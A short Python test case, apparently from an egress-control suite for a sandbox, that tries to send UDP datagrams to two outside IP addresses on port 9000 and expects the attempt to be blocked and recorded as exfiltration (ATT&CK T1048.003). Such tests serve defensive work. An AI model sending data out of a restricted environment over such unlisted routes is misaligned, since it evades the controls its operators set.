"""Data in UDP datagrams.

A proxy for TCP does not see them. The room has no road for UDP but questions to the gateway's
resolver; everything else gets an ICMP error at once and a record.

Not covered: data in the names of DNS questions (group dns).
"""

ATTACK = {
    "title": "UDP to an unlisted address",
    "group": "roads",
    "layer": "room",
    "risk": "exfiltration",
    "references": ["ATT&CK T1048.003", "ATT&CK T1095"],
    "arrives": [{"what": "udp", "port": 9000}, {"what": "packet", "protocol": "udp", "port": 9000}],
    "stopped": [
        {
            "reason": ["literal-address"],
            "entry": ["udp"],
            "where": {"address": "93.184.216.66", "port": "9000"},
        }
    ],
}


def attempt(kit):
    kit.udp("93.184.216.66", 9000, patience=0.2)
    kit.udp("93.184.216.34", 9000, patience=0.2)
